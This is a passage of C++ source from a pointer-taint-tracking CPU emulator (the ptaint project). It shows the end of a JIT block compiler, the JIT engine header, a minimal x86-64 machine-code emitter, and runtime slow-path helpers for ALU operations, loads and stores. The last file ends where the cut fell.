        // and one tainted-evaluation count, both inlined (R_CMPBR_UNTAINT);
        // address-only taint behaves exactly like the hot path.  With the
        // policy off, tainted compares propagate taint into the result, so
        // any set plane runs the reference terminator.
        size_t pos;
        if (reg_form) {
          load_slot(Gp::RDX, ci.rt);
          e.mov_r64_r64(Gp::RCX, Gp::RAX);
          e.or_r64_r64(Gp::RCX, Gp::RDX);
          pos = policy.compare_untaints ? data_taint_jnz(Gp::RCX, Gp::RCX)
                                        : taint_jnz(Gp::RCX, Gp::RCX);
          const size_t resume = e.size();
          colds.push_back({pos, resume, &u,
                           policy.compare_untaints ? R_CMPBR_UNTAINT
                                                   : R_CMPBR,
                           acc});
          e.cmp_r32_r32(Gp::RAX, Gp::RDX);
        } else {
          pos = policy.compare_untaints ? data_taint_jnz(Gp::RAX, Gp::RCX)
                                        : taint_jnz(Gp::RAX, Gp::RCX);
          const size_t resume = e.size();
          colds.push_back({pos, resume, &u,
                           policy.compare_untaints ? R_CMPBR_UNTAINT
                                                   : R_CMPBR,
                           acc});
          e.cmp_r32_imm(Gp::RAX, ci.imm);
        }
        e.setcc_r8(is_signed ? Cc::CC_L : Cc::CC_B, Gp::RAX);
        e.movzx_r32_r8(Gp::RAX, Gp::RAX);
        store_slot(dest, Gp::RAX);  // dest != 0 (fusion guarantee)
        e.test_r32_r32(Gp::RAX, Gp::RAX);
        // aux: the branch half is bne (taken when the compare produced 1).
        const size_t taken_fix = e.jcc(u.aux != 0 ? Cc::CC_NE : Cc::CC_E);
        Flush side = acc;
        side[off_.tu_evaluations] += 1;
        if (policy.compare_untaints) {
          side[off_.tu_compare_untaints] += 1;
          side[off_.st_compare_untaints] += 1;
        }
        side[off_.st_alu_ops] += 1;
        side[off_.st_branches] += 1;
        side[off_.st_instructions] += 2;
        emit_exit(side, u.pc + 8, /*may_loop=*/false);
        e.patch_here(taken_fix);
        side[off_.st_taken_branches] += 1;
        emit_exit(side, u.pc + 8 + (static_cast<uint32_t>(u.inst2.imm) << 2),
                  /*may_loop=*/true);
        break;
      }

      default:
        // kSyscall/kBreak were rejected above; kNumKinds never appears.
        blk.no_jit = 1;
        ++stats_.bailout_break;
        return;
    }
  }

  // Epilogue — every exit path lands here with pc_ and counters final.
  const size_t epilogue = e.size();
  for (size_t pos : exit_jumps) e.patch(pos, epilogue);
  e.add_rsp(8);
  e.pop_r64(Gp::R14);
  e.pop_r64(Gp::R13);
  e.pop_r64(Gp::R12);
  e.pop_r64(Gp::RBP);
  e.ret();

  // Cold stubs.
  for (const ColdSite& s : colds) {
    e.patch_here(s.jcc_pos);
    switch (s.recipe) {
      case R_ALU: {
        e.mov_r32_r32(Gp::RDX, Gp::RAX);  // v
        e.mov_r64_r64(Gp::RDI, Gp::R12);
        e.mov_r64_imm(Gp::RSI, reinterpret_cast<uint64_t>(s.u));
        e.mov_r64_imm(Gp::RAX, fn_addr(&JitRuntime::alu_slow));
        e.call_r64(Gp::RAX);
        e.jmp_to(s.resume);
        break;
      }
      case R_LW: case R_LOADOTHER: case R_ADDRLW:
      case R_SW: case R_SS: case R_ADDRSW: {
        e.mov_r64_r64(Gp::RDI, Gp::R12);
        e.mov_r64_imm(Gp::RSI, reinterpret_cast<uint64_t>(s.u));
        uint64_t fn = 0;
        switch (s.recipe) {
          case R_LW: fn = fn_addr(&JitRuntime::lw_slow); break;
          case R_LOADOTHER: fn = fn_addr(&JitRuntime::load_other_slow); break;
          case R_ADDRLW: fn = fn_addr(&JitRuntime::addr_lw_slow); break;
          case R_SW: fn = fn_addr(&JitRuntime::sw_slow); break;
          case R_SS: fn = fn_addr(&JitRuntime::store_small_slow); break;
          default: fn = fn_addr(&JitRuntime::addr_sw_slow); break;
        }
        if (s.recipe == R_SW || s.recipe == R_SS || s.recipe == R_ADDRSW) {
          e.mov_r64_imm(Gp::RDX, reinterpret_cast<uint64_t>(&blk));
        }
        e.mov_r64_imm(Gp::RAX, fn);
        e.call_r64(Gp::RAX);
        e.test_r32_r32(Gp::RAX, Gp::RAX);
        const size_t cont = e.jcc(Cc::CC_E);
        e.patch(cont, s.resume);
        // Stopped mid-block: flush the inclusive prefix (this micro-op's
        // constants cancel the helper's pre-subtract, earlier ones account
        // for the already-retired fast paths).
        emit_flush(s.flush);
        e.jmp_to(epilogue);
        break;
      }
      case R_BR: case R_CMPBR: case R_JR: case R_JALR: {
        // Terminator slow path: flush the retired prefix, then run the full
        // reference terminator (it bumps its own counters and sets pc_).
        emit_flush(s.flush);
        e.mov_r64_r64(Gp::RDI, Gp::R12);
        e.mov_r64_imm(Gp::RSI, reinterpret_cast<uint64_t>(s.u));
        uint64_t fn = 0;
        switch (s.recipe) {
          case R_BR: fn = fn_addr(&JitRuntime::branch_term); break;
          case R_CMPBR: fn = fn_addr(&JitRuntime::cmp_branch_term); break;
          case R_JR: fn = fn_addr(&JitRuntime::jr_term); break;
          default: fn = fn_addr(&JitRuntime::jalr_term); break;
        }
        e.mov_r64_imm(Gp::RAX, fn);
        e.call_r64(Gp::RAX);
        e.jmp_to(epilogue);
        break;
      }
      case R_BR_UNTAINT: {
        // Data-tainted plain branch: validate-untaint the operands in place
        // (branch_term), bump the counter the side flushes can't fold, and
        // rejoin the hot path — the compare itself is taint-independent.
        const isa::Instruction& bi = s.u->inst;
        untaint_slot(bi.rs);
        if (bi.op == isa::Op::kBeq || bi.op == isa::Op::kBne) {
          untaint_slot(bi.rt);
        }
        e.add_m64_imm(Gp::R12, off_.st_compare_untaints, 1);
        e.jmp_to(s.resume);
        break;
      }
      case R_CMPBR_UNTAINT: {
        // Data-tainted fused compare (compare-untaints policy on): identical
        // to the hot path except for the tainted-evaluation count and the
        // in-place operand untaint; the result is untainted either way.
        const isa::Instruction& ci = s.u->inst;
        e.add_m64_imm(Gp::R12, off_.tu_tainted_evaluations, 1);
        untaint_slot(ci.rs);
        if (ci.op == isa::Op::kSlt || ci.op == isa::Op::kSltu) {
          untaint_slot(ci.rt);
        }
        e.jmp_to(s.resume);
        break;
      }
    }
  }

  if (arena_used_ + e.size() > arena_cap_) {
    blk.no_jit = 1;
    ++stats_.bailout_arena_full;
    return;
  }
  uint8_t* dst = arena_ + arena_used_;
  std::memcpy(dst, e.code().data(), e.size());
  arena_used_ += e.size();
  blk.host = dst;
  ++stats_.blocks_compiled;
  stats_.code_bytes = arena_used_;

  compiled_[blk.entry_pc] = {dst + top, blk.guest_len};
  for (const ChainSite& cs : chain_sites) {
    chain_exits_.push_back(
        {blk.entry_pc, cs.target, dst + cs.pos, dst + epilogue, false});
  }
  link_chains();
}

}  // namespace ptaint::cpu
