// JIT execution tier: hot superblocks compiled to host x86-64 with the
// taint propagation rules, address-provenance merging and policy checks
// inlined into the emitted code (DESIGN.md §12).
//
// The tier sits on top of the superblock engine and reuses its machinery
// end to end: translation produces the same micro-op arrays, heat counts
// trampoline entries, SMC and snapshot invalidation ride the existing
// graveyard path, and cold or non-JITable blocks (syscalls, breaks) run
// through the interpreted dispatch loop unchanged.  The step interpreter
// remains the differential oracle — emitted code obeys the same identity
// contract as the superblock handlers: byte-identical architectural state,
// stop reasons, alerts, CpuStats and TaintUnit::Stats, including counter
// ordering around early stops.
//
// Fast/slow split: each micro-op's emitted body handles the untainted,
// memo-hit, aligned case inline and calls an out-of-line JitRuntime helper
// (the reference handler logic) for everything else.  Counter bumps are
// deferred: the fast paths bump nothing, each exit path adds the exact
// compile-time counter sums for the micro-ops it retired, and mid-block
// helpers pre-subtract their own fast-path constants before re-running the
// reference logic, so the net effect equals the reference interpreter on
// every path.
#pragma once

#include <cstddef>
#include <cstdint>
#include <map>
#include <unordered_map>
#include <vector>

#include "cpu/superblock.hpp"

namespace ptaint::cpu {

class JitEngine {
 public:
  JitEngine(SuperblockEngine& sb, Cpu& cpu);
  ~JitEngine();
  JitEngine(const JitEngine&) = delete;
  JitEngine& operator=(const JitEngine&) = delete;

  /// True when this host can run emitted code (x86-64 unix).  On other
  /// hosts Cpu::set_engine(kJit) falls back to the superblock engine with a
  /// one-line warning.  PTAINT_JIT_FORCE_UNSUPPORTED=1 forces the fallback
  /// for testing.
  static bool supported();

  /// The trampoline: same budget semantics as SuperblockEngine::advance.
  /// Compiled blocks run as host code; cold or non-JITable blocks run
  /// through the interpreted dispatch loop in bounded slices so hot code
  /// keeps returning here to accrue heat.
  StopReason advance(uint64_t n);

  /// Rewinds the code arena.  Only legal when every translation is gone
  /// (SuperblockEngine::reset), since a retired block's host code may be
  /// the caller's own frame otherwise.
  void on_reset();

  /// A compiled block was retired into the graveyard (SMC / snapshot
  /// delta).  Its host code stays in the arena until on_reset(), but every
  /// cross-block chain is unpatched so no live block can jump into it.
  void note_block_dropped(const SuperblockEngine::Block& blk);

  const JitStats& stats() const { return stats_; }

 private:
  using Block = SuperblockEngine::Block;
  using MicroOp = SuperblockEngine::MicroOp;

  /// Per-call state handed to emitted code (standard layout; emitted code
  /// addresses fields by offsetof).
  struct Context {
    Cpu* cpu = nullptr;
    mem::TaintedWord* regs = nullptr;  // register file flat slots
    mem::TaintedMemory* mem = nullptr;
    // Guest instructions the block may retire *beyond* the current pass:
    // the trampoline stores remaining - guest_len before the call, and the
    // self-loop back edge re-debits guest_len per iteration, so tight loops
    // spin entirely in host code without overshooting the budget.
    uint64_t budget = 0;
  };

  /// Byte offsets of the Cpu/TaintedMemory fields the emitted code touches,
  /// measured from live objects (the owning classes are not standard
  /// layout).
  struct HotOffsets {
    int32_t pc;
    int32_t st_instructions;
    int32_t st_alu_ops;
    int32_t st_loads;
    int32_t st_stores;
    int32_t st_branches;
    int32_t st_taken_branches;
    int32_t st_jumps;
    int32_t st_compare_untaints;
    int32_t tu_evaluations;
    int32_t tu_tainted_evaluations;
    int32_t tu_compare_untaints;
    int32_t tu_and_zero_untaints;
    int32_t tu_xor_self_untaints;
    int32_t mem_memo_index;
    int32_t mem_memo_page;
    int32_t mem_wmemo_index;
    int32_t mem_wmemo_page;
    int32_t page_data;
    int32_t page_summary;
  };

  /// Compiles `blk` into the code arena; on success sets blk.host.  On a
  /// bailout (syscall/break block, arena full) latches blk.no_jit so the
  /// block stays interpreted.
  void compile(Block& blk);

  // --- cross-block chaining ------------------------------------------------
  // Every compile-time-known exit (J/JAL, both branch sides, block fall-off)
  // ends in `mov pc, imm; jmp epilogue` with the jmp's rel32 recorded as a
  // chain site.  When both source and target blocks are compiled, the site
  // is patched to a budget-check thunk that jumps straight into the target's
  // body (past its prologue — the pinned registers are identical), so hot
  // multi-block loops never leave host code.  Invalidating any compiled
  // block unpatches every site back to the source epilogue; surviving sites
  // re-link on the next compile().

  /// One patchable exit jmp in the arena.
  struct ChainExit {
    uint32_t source_entry;   // entry pc of the block owning the site
    uint32_t target_pc;      // guest pc the exit transfers to
    uint8_t* site;           // the jmp's rel32 operand in the arena
    const uint8_t* epilogue; // unpatched destination (source epilogue)
    bool patched = false;
  };
  /// Entry point of a compiled block's body (after the prologue).
  struct CompiledBody {
    const uint8_t* top;
    uint32_t guest_len;
  };

  /// Indirect-target cache: a direct-mapped guest-pc → compiled-body table
  /// probed inline by emitted JR/JALR exits, so returns and computed jumps
  /// chain host-to-host too.  The sentinel pc ~0u is misaligned and the
  /// probe rejects misaligned targets first, so empty slots never match.
  struct IndirectEntry {
    uint32_t pc = ~0u;
    uint32_t guest_len = 0;
    const uint8_t* top = nullptr;
  };
  static constexpr uint32_t kIndirectSlots = 1024;  // power of two
  static constexpr uint32_t kIndirectMask = kIndirectSlots - 1;

  /// Patches every unpatched chain site whose target is compiled and
  /// refreshes the indirect-target cache from compiled_.
  void link_chains();
  /// Reverts every patched site, empties the indirect-target cache, and
  /// drops state owned by `dead_entry`.
  void unlink_chains(uint32_t dead_entry);

  SuperblockEngine& sb_;
  Cpu& cpu_;
  Context ctx_;
  HotOffsets off_;
  uint8_t* arena_ = nullptr;  // RWX mapping; bump-allocated, rewound on reset
  size_t arena_cap_ = 0;
  size_t arena_used_ = 0;
  JitStats stats_;
  std::unordered_map<uint32_t, CompiledBody> compiled_;  // by entry pc
  std::vector<ChainExit> chain_exits_;
  std::vector<IndirectEntry> itable_;  // fixed size; data() baked into code
};

}  // namespace ptaint::cpu
