// Minimal x86-64 machine-code emitter for the JIT tier (DESIGN.md §12).
//
// Just enough of the instruction set to express the translated micro-op
// bodies: 32/64-bit moves between registers and [base+disp]/[base+index]
// memory operands, the ALU ops the PTA-32 fast paths need, setcc, rel32
// jumps with back-patching, and absolute 64-bit calls.  Encodings follow
// the Intel SDM; REX prefixes and the RSP/R12 SIB and RBP/R13 disp8=0
// ModRM quirks are handled centrally in mem_operand().
#pragma once

#include <cstddef>
#include <cstdint>
#include <vector>

namespace ptaint::cpu::jit {

enum Gp : uint8_t {
  RAX = 0, RCX = 1, RDX = 2, RBX = 3, RSP = 4, RBP = 5, RSI = 6, RDI = 7,
  R8 = 8, R9 = 9, R10 = 10, R11 = 11, R12 = 12, R13 = 13, R14 = 14, R15 = 15,
};

// Condition codes for jcc/setcc (low nibble of the opcode).
enum Cc : uint8_t {
  CC_B = 0x2, CC_AE = 0x3, CC_E = 0x4, CC_NE = 0x5, CC_BE = 0x6, CC_A = 0x7,
  CC_S = 0x8, CC_NS = 0x9, CC_L = 0xC, CC_GE = 0xD, CC_LE = 0xE, CC_G = 0xF,
};

class Emitter {
 public:
  const std::vector<uint8_t>& code() const { return buf_; }
  size_t size() const { return buf_.size(); }

  // --- raw bytes -----------------------------------------------------------
  void u8(uint8_t v) { buf_.push_back(v); }
  void u32(uint32_t v) {
    for (int i = 0; i < 4; ++i) u8(static_cast<uint8_t>(v >> (8 * i)));
  }
  void u64(uint64_t v) {
    for (int i = 0; i < 8; ++i) u8(static_cast<uint8_t>(v >> (8 * i)));
  }

  // --- moves ---------------------------------------------------------------
  void mov_r64_m(Gp dst, Gp base, int32_t disp) {
    rm({0x8B}, dst, base, -1, disp, kW);
  }
  void mov_r32_m(Gp dst, Gp base, int32_t disp) {
    rm({0x8B}, dst, base, -1, disp, 0);
  }
  void mov_r32_m_bi(Gp dst, Gp base, Gp index, int32_t disp) {
    rm({0x8B}, dst, base, index, disp, 0);
  }
  void movzx_r32_m8_bi(Gp dst, Gp base, Gp index, int32_t disp) {
    rm({0x0F, 0xB6}, dst, base, index, disp, 0);
  }
  void movzx_r32_m16_bi(Gp dst, Gp base, Gp index, int32_t disp) {
    rm({0x0F, 0xB7}, dst, base, index, disp, 0);
  }
  void movsx_r32_m8_bi(Gp dst, Gp base, Gp index, int32_t disp) {
    rm({0x0F, 0xBE}, dst, base, index, disp, 0);
  }
  void movsx_r32_m16_bi(Gp dst, Gp base, Gp index, int32_t disp) {
    rm({0x0F, 0xBF}, dst, base, index, disp, 0);
  }
  void mov_m_r64(Gp base, int32_t disp, Gp src) {
    rm({0x89}, src, base, -1, disp, kW);
  }
  void mov_m_r32(Gp base, int32_t disp, Gp src) {
    rm({0x89}, src, base, -1, disp, 0);
  }
  void mov_m_r32_bi(Gp base, Gp index, int32_t disp, Gp src) {
    rm({0x89}, src, base, index, disp, 0);
  }
  void mov_m_r16_bi(Gp base, Gp index, int32_t disp, Gp src) {
    u8(0x66);
    rm({0x89}, src, base, index, disp, 0);
  }
  void mov_m_r8_bi(Gp base, Gp index, int32_t disp, Gp src) {
    rm({0x88}, src, base, index, disp, 0);  // src must be al/cl/dl/bl
  }
  void mov_m32_imm(Gp base, int32_t disp, uint32_t imm) {
    rm({0xC7}, static_cast<Gp>(0), base, -1, disp, 0);
    u32(imm);
  }
  void mov_r64_imm(Gp dst, uint64_t imm) {
    u8(0x48 | ((dst & 8) ? 1 : 0));
    u8(0xB8 | (dst & 7));
    u64(imm);
  }
  void mov_r32_imm(Gp dst, uint32_t imm) {
    if (dst & 8) u8(0x41);
    u8(0xB8 | (dst & 7));
    u32(imm);
  }
  void mov_r64_r64(Gp dst, Gp src) { rr({0x89}, src, dst, kW); }
  void mov_r32_r32(Gp dst, Gp src) { rr({0x89}, src, dst, 0); }

  // --- ALU, register forms -------------------------------------------------
  void add_r32_r32(Gp dst, Gp src) { rr({0x01}, src, dst, 0); }
  void sub_r32_r32(Gp dst, Gp src) { rr({0x29}, src, dst, 0); }
  void or_r32_r32(Gp dst, Gp src) { rr({0x09}, src, dst, 0); }
  void or_r64_r64(Gp dst, Gp src) { rr({0x09}, src, dst, kW); }
  void and_r32_r32(Gp dst, Gp src) { rr({0x21}, src, dst, 0); }
  void xor_r32_r32(Gp dst, Gp src) { rr({0x31}, src, dst, 0); }
  void cmp_r32_r32(Gp a, Gp b) { rr({0x39}, b, a, 0); }
  void not_r32(Gp r) { rr({0xF7}, static_cast<Gp>(2), r, 0); }
  void test_r32_r32(Gp a, Gp b) { rr({0x85}, b, a, 0); }
  void test_r16_r16(Gp a, Gp b) {
    u8(0x66);
    rr({0x85}, b, a, 0);
  }
  void test_r8_imm(Gp r, uint8_t imm) {  // r must be al/cl/dl/bl
    rr({0xF6}, static_cast<Gp>(0), r, 0);
    u8(imm);
  }

  // --- ALU, immediate forms (opcode 0x81/0x83 with /ext) -------------------
  void add_r32_imm(Gp r, int32_t imm) { alu_imm(0, r, imm); }
  void or_r32_imm(Gp r, int32_t imm) { alu_imm(1, r, imm); }
  void and_r32_imm(Gp r, int32_t imm) { alu_imm(4, r, imm); }
  void sub_r32_imm(Gp r, int32_t imm) { alu_imm(5, r, imm); }
  void xor_r32_imm(Gp r, int32_t imm) { alu_imm(6, r, imm); }
  void cmp_r32_imm(Gp r, int32_t imm) { alu_imm(7, r, imm); }

  // --- shifts --------------------------------------------------------------
  void shl_r32_imm(Gp r, uint8_t n) { shift(4, r, n, 0); }
  void shr_r32_imm(Gp r, uint8_t n) { shift(5, r, n, 0); }
  void sar_r32_imm(Gp r, uint8_t n) { shift(7, r, n, 0); }
  void shr_r64_imm(Gp r, uint8_t n) { shift(5, r, n, kW); }
  void shl_r32_cl(Gp r) { rr({0xD3}, static_cast<Gp>(4), r, 0); }
  void shr_r32_cl(Gp r) { rr({0xD3}, static_cast<Gp>(5), r, 0); }
  void sar_r32_cl(Gp r) { rr({0xD3}, static_cast<Gp>(7), r, 0); }

  // --- memory-operand compares / counter adds ------------------------------
  void cmp_r32_m(Gp r, Gp base, int32_t disp) {
    rm({0x3B}, r, base, -1, disp, 0);
  }
  void cmp_m64_imm(Gp base, int32_t disp, int32_t imm) {
    mem_imm(7, base, disp, imm, kW);
  }
  void cmp_m64_r64(Gp base, int32_t disp, Gp r) {
    rm({0x39}, r, base, -1, disp, kW);
  }
  void sub_m64_r64(Gp base, int32_t disp, Gp r) {
    rm({0x29}, r, base, -1, disp, kW);
  }
  void add_m64_imm(Gp base, int32_t disp, int32_t imm) {
    mem_imm(0, base, disp, imm, kW);
  }
  void sub_m64_imm(Gp base, int32_t disp, int32_t imm) {
    mem_imm(5, base, disp, imm, kW);
  }
  void and_m16_imm(Gp base, int32_t disp, uint16_t imm) {
    u8(0x66);  // operand-size prefix: 16-bit read-modify-write
    const auto s = static_cast<int16_t>(imm);
    const bool imm8 = s >= -128 && s <= 127;
    rm({static_cast<uint8_t>(imm8 ? 0x83 : 0x81)}, static_cast<Gp>(4), base,
       -1, disp, 0);
    if (imm8) {
      u8(static_cast<uint8_t>(s));
    } else {
      u8(static_cast<uint8_t>(imm));
      u8(static_cast<uint8_t>(imm >> 8));
    }
  }

  // --- setcc ---------------------------------------------------------------
  void setcc_r8(Cc cc, Gp r) {  // r must be al/cl/dl/bl
    rr({0x0F, static_cast<uint8_t>(0x90 | cc)}, static_cast<Gp>(0), r, 0);
  }
  void movzx_r32_r8(Gp dst, Gp src) { rr({0x0F, 0xB6}, dst, src, 0); }

  // --- control flow --------------------------------------------------------
  /// Emits jcc rel32 with a zero displacement; returns the fixup position.
  size_t jcc(Cc cc) {
    u8(0x0F);
    u8(static_cast<uint8_t>(0x80 | cc));
    const size_t pos = size();
    u32(0);
    return pos;
  }
  /// Emits jmp rel32 with a zero displacement; returns the fixup position.
  size_t jmp() {
    u8(0xE9);
    const size_t pos = size();
    u32(0);
    return pos;
  }
  /// Emits jmp rel32 straight to a known (typically backward) target.
  void jmp_to(size_t target) {
    u8(0xE9);
    const size_t pos = size();
    u32(0);
    patch(pos, target);
  }
  /// Points the rel32 at `pos` to the current position.
  void patch_here(size_t pos) { patch(pos, size()); }
  void patch(size_t pos, size_t target) {
    const int64_t rel = static_cast<int64_t>(target) -
                        (static_cast<int64_t>(pos) + 4);
    for (int i = 0; i < 4; ++i) {
      buf_[pos + static_cast<size_t>(i)] =
          static_cast<uint8_t>(static_cast<uint64_t>(rel) >> (8 * i));
    }
  }
  void call_r64(Gp r) { rr({0xFF}, static_cast<Gp>(2), r, 0); }
  /// jmp qword [base + index + disp] (64-bit operand is the jmp default).
  void jmp_m64_bi(Gp base, Gp index, int32_t disp) {
    rm({0xFF}, static_cast<Gp>(4), base, index, disp, 0);
  }
  void push_r64(Gp r) {
    if (r & 8) u8(0x41);
    u8(0x50 | (r & 7));
  }
  void pop_r64(Gp r) {
    if (r & 8) u8(0x41);
    u8(0x58 | (r & 7));
  }
  void sub_rsp(uint8_t n) {
    u8(0x48); u8(0x83); u8(0xEC); u8(n);
  }
  void add_rsp(uint8_t n) {
    u8(0x48); u8(0x83); u8(0xC4); u8(n);
  }
  void ret() { u8(0xC3); }

 private:
  static constexpr uint8_t kW = 0x08;  // REX.W flag for rex()

  void rex(uint8_t w, int reg, int index, int base) {
    uint8_t r = 0x40 | w;
    if (reg & 8) r |= 0x04;
    if (index >= 0 && (index & 8)) r |= 0x02;
    if (base & 8) r |= 0x01;
    if (r != 0x40) u8(r);
  }

  /// ModRM (+SIB) for reg, [base + index*1 + disp].  index < 0 = none.
  void mem_operand(int reg, int base, int index, int32_t disp) {
    const bool need_sib = index >= 0 || (base & 7) == RSP;
    const bool disp8 = disp >= -128 && disp <= 127;
    // mod 00 with base rbp/r13 means rip/disp32-only; always use disp8/32.
    uint8_t mod;
    if (disp == 0 && (base & 7) != RBP) {
      mod = 0x00;
    } else if (disp8) {
      mod = 0x40;
    } else {
      mod = 0x80;
    }
    const uint8_t rmfield = need_sib ? RSP : (base & 7);
    u8(static_cast<uint8_t>(mod | ((reg & 7) << 3) | rmfield));
    if (need_sib) {
      const uint8_t idx = index >= 0 ? (index & 7) : RSP;  // RSP = no index
      u8(static_cast<uint8_t>((idx << 3) | (base & 7)));
    }
    if (mod == 0x40) {
      u8(static_cast<uint8_t>(disp));
    } else if (mod == 0x80) {
      u32(static_cast<uint32_t>(disp));
    }
  }

  void rm(std::initializer_list<uint8_t> opcode, Gp reg, Gp base, int index,
          int32_t disp, uint8_t w) {
    rex(w, reg, index, base);
    for (uint8_t b : opcode) u8(b);
    mem_operand(reg, base, index, disp);
  }

  /// mod=11 register-direct form; `reg` may be an /ext digit.
  void rr(std::initializer_list<uint8_t> opcode, Gp reg, Gp rmreg, uint8_t w) {
    rex(w, reg, -1, rmreg);
    for (uint8_t b : opcode) u8(b);
    u8(static_cast<uint8_t>(0xC0 | ((reg & 7) << 3) | (rmreg & 7)));
  }

  void alu_imm(uint8_t ext, Gp r, int32_t imm) {
    const bool imm8 = imm >= -128 && imm <= 127;
    rr({static_cast<uint8_t>(imm8 ? 0x83 : 0x81)}, static_cast<Gp>(ext), r, 0);
    if (imm8) {
      u8(static_cast<uint8_t>(imm));
    } else {
      u32(static_cast<uint32_t>(imm));
    }
  }

  void mem_imm(uint8_t ext, Gp base, int32_t disp, int32_t imm, uint8_t w) {
    const bool imm8 = imm >= -128 && imm <= 127;
    rm({static_cast<uint8_t>(imm8 ? 0x83 : 0x81)}, static_cast<Gp>(ext), base,
       -1, disp, w);
    if (imm8) {
      u8(static_cast<uint8_t>(imm));
    } else {
      u32(static_cast<uint32_t>(imm));
    }
  }

  void shift(uint8_t ext, Gp r, uint8_t n, uint8_t w) {
    rr({0xC1}, static_cast<Gp>(ext), r, w);
    u8(n);
  }

  std::vector<uint8_t> buf_;
};

}  // namespace ptaint::cpu::jit
