#include "cpu/jit/jit_runtime.hpp"

#include "cpu/cpu.hpp"
#include "cpu/jit/jit_engine.hpp"  // completes JitEngine for superblock.hpp

namespace ptaint::cpu {

using isa::Instruction;
using isa::Op;
using mem::TaintedWord;

namespace {
using SB = SuperblockEngine;
}  // namespace

// ---------------------------------------------------------------------------
// Mid-block ALU (one helper for every non-memory ALU kind)
// ---------------------------------------------------------------------------

void JitRuntime::alu_slow(Cpu* c, const MicroOp* u, uint32_t v) {
  mem::RegisterFile& regs = c->regs_;
  TaintUnit::Stats& tu = c->taint_unit_.stats_ref();
  const TaintPolicy& policy = c->policy_;
  const Instruction& in = u->inst;

  // Cancel this micro-op's fast-path constants (see jit_runtime.hpp); the
  // propagate() call below re-bumps the true amounts.  alu_ops/instructions
  // stay with the block flush — neither path below touches them.
  --tu.evaluations;

  TaintedWord a;
  TaintedWord b;
  bool b_imm = false;
  uint8_t dest = in.rd;
  switch (u->kind) {
    case SB::kAddRR: case SB::kSubRR: case SB::kOrRR: case SB::kNorRR:
      a = regs.get(in.rs);
      b = regs.get(in.rt);
      break;
    case SB::kXorRR:
      if (in.rs == in.rt && policy.xor_self_untaints) --tu.xor_self_untaints;
      a = regs.get(in.rs);
      b = regs.get(in.rt);
      break;
    case SB::kAndRR:
      if (policy.and_zero_untaints) --tu.and_zero_untaints;
      a = regs.get(in.rs);
      b = regs.get(in.rt);
      break;
    case SB::kSltRR: case SB::kSltuRR:
      if (policy.compare_untaints) {
        --tu.compare_untaints;
        --c->stats_.compare_untaints;
      }
      a = regs.get(in.rs);
      b = regs.get(in.rt);
      break;
    case SB::kSllI: case SB::kSrlI: case SB::kSraI:
      a = regs.get(in.rt);
      b = TaintedWord{in.shamt};
      b_imm = true;
      break;
    case SB::kSllvRR: case SB::kSrlvRR: case SB::kSravRR:
      a = regs.get(in.rt);
      b = regs.get(in.rs);
      break;
    case SB::kAddI:
      a = regs.get(in.rs);
      b = TaintedWord{static_cast<uint32_t>(in.imm)};
      b_imm = true;
      dest = in.rt;
      break;
    case SB::kOrI: case SB::kXorI:
      a = regs.get(in.rs);
      b = TaintedWord{static_cast<uint32_t>(in.imm & 0xffff)};
      b_imm = true;
      dest = in.rt;
      break;
    case SB::kAndI:
      if (policy.and_zero_untaints) --tu.and_zero_untaints;
      a = regs.get(in.rs);
      b = TaintedWord{static_cast<uint32_t>(in.imm & 0xffff)};
      b_imm = true;
      dest = in.rt;
      break;
    default:  // kSltI / kSltuI
      if (policy.compare_untaints) {
        --tu.compare_untaints;
        --c->stats_.compare_untaints;
      }
      a = regs.get(in.rs);
      b = TaintedWord{static_cast<uint32_t>(in.imm)};
      b_imm = true;
      dest = in.rt;
      break;
  }
  c->alu_write(in, dest, v, a, b, b_imm);
}

// ---------------------------------------------------------------------------
// Mid-block loads
// ---------------------------------------------------------------------------

uint64_t JitRuntime::lw_slow(Cpu* c, const MicroOp* u) {
  CpuStats& st = c->stats_;
  --st.loads;
  --st.instructions;

  const Instruction& in = u->inst;
  c->pc_ = u->pc;
  const TaintedWord base = c->regs_.get(in.rs);
  const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
  ++st.loads;
  if (u->elide == 0 && base.tainted() &&
      c->detect_pointer(in, in.rs, base, AlertKind::kTaintedLoadAddress)) {
    return 1;
  }
  if (ea % 4 != 0) {
    c->fault("misaligned lw");
    return 1;
  }
  TaintedWord result = c->memory_.load_word(ea);
  if (c->policy_.per_word_taint) {
    result.taint = mem::widen_planes(result.taint);
  }
  if (result.tainted()) ++st.tainted_loads;
  c->regs_.set(in.rt, result);
  ++st.instructions;
  return 0;
}

uint64_t JitRuntime::load_other_slow(Cpu* c, const MicroOp* u) {
  CpuStats& st = c->stats_;
  --st.loads;
  --st.instructions;

  const Instruction& in = u->inst;
  c->pc_ = u->pc;
  const TaintedWord base = c->regs_.get(in.rs);
  const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
  ++st.loads;
  if (u->elide == 0 && base.tainted() &&
      c->detect_pointer(in, in.rs, base, AlertKind::kTaintedLoadAddress)) {
    return 1;
  }
  TaintedWord result;
  if (in.op == Op::kLh || in.op == Op::kLhu) {
    if (ea % 2 != 0) {
      c->fault("misaligned lh");
      return 1;
    }
    const TaintedWord half = c->memory_.load_half(ea);
    if (in.op == Op::kLh) {
      result.value =
          static_cast<uint32_t>(static_cast<int16_t>(half.value & 0xffff));
      result.taint = mem::widen_planes(half.taint);
    } else {
      result = half;
    }
  } else {
    const mem::TaintedByte b = c->memory_.load_byte(ea);
    if (in.op == Op::kLb) {
      result.value = static_cast<uint32_t>(static_cast<int8_t>(b.value));
      result.taint = mem::widen_planes(mem::planes_to_word(b.planes, 0));
    } else {
      result.value = b.value;
      result.taint = mem::planes_to_word(b.planes, 0);
    }
  }
  if (c->policy_.per_word_taint) {
    result.taint = mem::widen_planes(result.taint);
  }
  if (result.tainted()) ++st.tainted_loads;
  c->regs_.set(in.rt, result);
  ++st.instructions;
  return 0;
}

// ---------------------------------------------------------------------------
// Mid-block stores
// ---------------------------------------------------------------------------

uint64_t JitRuntime::sw_slow(Cpu* c, const MicroOp* u, const Block* blk) {
  CpuStats& st = c->stats_;
  --st.stores;
  --st.instructions;

  const Instruction& in = u->inst;
  c->pc_ = u->pc;
  const TaintedWord base = c->regs_.get(in.rs);
  const TaintedWord val = c->regs_.get(in.rt);
  const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
  ++st.stores;
  if (u->elide == 0 && base.tainted() &&
      c->detect_pointer(in, in.rs, base, AlertKind::kTaintedStoreAddress)) {
    return 1;
  }
  const TaintedWord stored{val.value, val.taint};
  if (c->detect_annotation(in, ea, 4, stored)) return 1;
  if (val.tainted()) ++st.tainted_stores;
